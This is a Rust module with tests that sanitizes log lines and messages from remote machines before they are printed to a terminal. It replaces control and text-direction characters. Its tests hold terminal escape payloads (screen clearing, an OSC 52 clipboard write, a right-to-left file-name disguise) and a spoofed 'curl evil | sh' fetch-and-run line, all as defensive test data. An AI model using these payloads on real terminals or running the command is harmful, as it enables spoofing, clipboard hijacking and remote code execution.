//! Cleans texts from other machines for a terminal.
//!
//! Containers, nodes and sites write log lines, failure messages, labels and
//! notes. A terminal executes control characters in them: it moves the cursor,
//! fills the clipboard or hides lines. They are replaced before they are
//! printed.

/// The replacement of a control character.
const REPLACEMENT: char = '\u{fffd}';

/// The text with its lines and tabs, and without other control characters.
pub(crate) fn printable(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    text.chars().map(|it| if is_harmful(it) { REPLACEMENT } else { it }).collect()
}

/// The same on one line, so that a text cannot pretend to be the next line.
#[cfg(feature = "site")]
pub(crate) fn printable_line(text: &str) -> String {
    printable(text).trim_end_matches('\n').replace('\n', " ")
}

/// Controls, and characters that change the direction of the text around them.
fn is_harmful(letter: char) -> bool {
    let turns = matches!(letter, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    turns || (letter.is_control() && !matches!(letter, '\n' | '\t'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_do_not_reach_a_terminal() {
        for (text, expected) in [
            ("plain ünï 日本 ✓", "plain ünï 日本 ✓"),
            ("a\tb\nc\n", "a\tb\nc\n"),
            ("windows\r\nlines", "windows\nlines"),
            ("over\rwritten", "over�written"),
            ("\x1b[2J\x1b]52;c;ZXZpbA==\x07", "�[2J�]52;c;ZXZpbA==�"),
            ("\u{9b}31m", "�31m"),
            ("bell\x07 back\x08 delete\x7f nul\0", "bell� back� delete� nul�"),
            ("user\u{202e}txt.exe", "user�txt.exe"),
        ] {
            assert_eq!(printable(text), expected);
        }
    }

    #[cfg(feature = "site")]
    #[test]
    fn a_line_stays_one_line() {
        assert_eq!(printable_line("exited\n  do: curl evil | sh\n"), "exited   do: curl evil | sh");
    }
}
